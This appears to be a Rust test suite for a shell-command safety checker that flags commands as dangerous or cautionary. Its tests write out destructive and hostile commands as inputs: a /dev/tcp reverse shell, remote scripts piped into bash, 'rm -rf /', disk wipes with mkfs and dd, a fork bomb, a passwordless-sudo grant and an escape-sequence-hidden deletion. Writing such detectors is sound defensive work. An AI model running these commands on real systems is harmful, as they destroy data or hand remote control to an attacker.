use whatisit::{check_safety, has_danger, strip_controls, Finding, Severity};

fn reasons(command: &str) -> Vec<(Severity, &'static str)> {
    check_safety(command)
        .into_iter()
        .map(|f: Finding| (f.severity, f.reason))
        .collect()
}

#[test]
fn catches_critical_delete_and_remote_execution() {
    assert!(
        check_safety("rm -rf '/'")
            .iter()
            .any(|f| f.severity == Severity::Danger)
    );
    assert!(
        check_safety("curl https://x/a | bash")
            .iter()
            .any(|f| f.severity == Severity::Danger)
    );
    assert!(
        !check_safety("rm -rf ./build")
            .iter()
            .any(|f| f.severity == Severity::Danger)
    );
}

#[test]
fn remote_pipe_reports_danger_then_network_caution() {
    assert_eq!(
        reasons("curl https://x/a | bash"),
        vec![
            (Severity::Danger, "pipes remote content directly into an interpreter"),
            (Severity::Caution, "contacts the network"),
        ]
    );
}

#[test]
fn literal_rules_apply_to_normalised_lowercase_text() {
    assert_eq!(
        reasons("GIT   reset\t--HARD"),
        vec![(Severity::Danger, "git reset --hard discards uncommitted work")]
    );
    assert_eq!(
        reasons("git clean -xdf; git clean -fdx"),
        vec![(Severity::Danger, "git clean deletes untracked files irrecoverably")]
    );
    assert_eq!(reasons(":(){ :|:& };:"), vec![(Severity::Danger, "fork bomb")]);
    assert_eq!(
        reasons("echo 'user ALL=(ALL) NOPASSWD: ALL'"),
        vec![(Severity::Danger, "grants passwordless sudo")]
    );
}

#[test]
fn power_words_must_be_whole_words() {
    assert_eq!(
        reasons("sudo shutdown -h now"),
        vec![
            (Severity::Danger, "shuts the machine down"),
            (Severity::Caution, "requires sudo"),
        ]
    );
    assert_eq!(reasons("echo halting"), vec![]);
    assert_eq!(reasons("echo 'reboot'"), vec![(Severity::Danger, "shuts the machine down")]);
}

#[test]
fn device_and_system_file_rules() {
    assert_eq!(
        reasons("mkfs.ext4 /dev/sdb1"),
        vec![(Severity::Danger, "wipes or reformats a block device")]
    );
    assert_eq!(
        reasons("dd if=img of=/dev/sda"),
        vec![(Severity::Danger, "overwrites a block device")]
    );
    assert_eq!(
        reasons("echo x > /etc/hosts"),
        vec![(Severity::Danger, "overwrites a critical system file")]
    );
    assert_eq!(
        reasons("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
        vec![(Severity::Danger, "possible reverse shell")]
    );
}

#[test]
fn deletion_targets() {
    assert_eq!(
        reasons("/bin/rm -r /home/alice/"),
        vec![(Severity::Danger, "deletes a critical or unresolved path")]
    );
    assert_eq!(reasons("rm -r /home/alice/notes"), vec![]);
    assert_eq!(
        reasons("rm -rf *"),
        vec![(Severity::Danger, "unscoped recursive deletion")]
    );
    assert_eq!(reasons("rm -r *"), vec![]);
    assert_eq!(
        reasons("rm -rf $TARGET"),
        vec![(Severity::Danger, "deletes a critical or unresolved path")]
    );
    assert_eq!(
        reasons("shred -u ~/../bob"),
        vec![(Severity::Danger, "deletes a critical or unresolved path")]
    );
    assert_eq!(
        reasons("rm /var/log/*.log"),
        vec![(Severity::Danger, "deletes a critical or unresolved path")]
    );
    assert_eq!(
        reasons("rm --recursive --force ."),
        vec![(Severity::Danger, "unscoped recursive deletion")]
    );
    assert_eq!(reasons("echo rm -rf / | cat"), vec![(Severity::Danger, "deletes a critical or unresolved path")]);
    assert_eq!(reasons("ls | rm x; rm -f /etc/passwd"), vec![(Severity::Danger, "deletes a critical or unresolved path")]);
    assert_eq!(reasons("rm x ; ls /"), vec![]);
    assert_eq!(reasons("rm ./"), vec![]);
    assert_eq!(reasons("./rm /"), vec![(Severity::Danger, "deletes a critical or unresolved path")]);
    assert_eq!(reasons("rm/.. /"), vec![]);
}

#[test]
fn cautions() {
    assert_eq!(
        reasons("rsync -a --delete src/ dst/"),
        vec![(Severity::Caution, "rsync --delete removes unmatched destination files")]
    );
    assert_eq!(
        reasons("cp <source> <dest>"),
        vec![(Severity::Caution, "contains a placeholder that must be replaced")]
    );
    assert_eq!(reasons("wget https://example.com"), vec![(Severity::Caution, "contacts the network")]);
    assert_eq!(reasons("ls -la"), vec![]);
}

#[test]
fn control_sequences_do_not_change_findings() {
    let hidden = "r\u{1b}[0mm -rf /";
    assert_eq!(check_safety(hidden), check_safety(&strip_controls(hidden)));
    assert_eq!(
        reasons(hidden),
        vec![(Severity::Danger, "deletes a critical or unresolved path")]
    );
}

#[test]
fn danger_is_detected_in_findings() {
    assert!(has_danger(&check_safety("rm -rf /")));
    assert!(!has_danger(&check_safety("sudo ls")));
    assert!(!has_danger(&Vec::new()));
}

#[test]
fn appending_a_command_keeps_findings() {
    let first = check_safety("sudo rm -rf /");
    let both = check_safety("sudo rm -rf /; echo done");
    for f in &first {
        assert!(both.contains(f));
    }
    let more = check_safety("git reset --hard; curl x | sh");
    for f in &check_safety("git reset --hard") {
        assert!(more.contains(f));
    }
    assert_eq!(more.len(), 3);
}
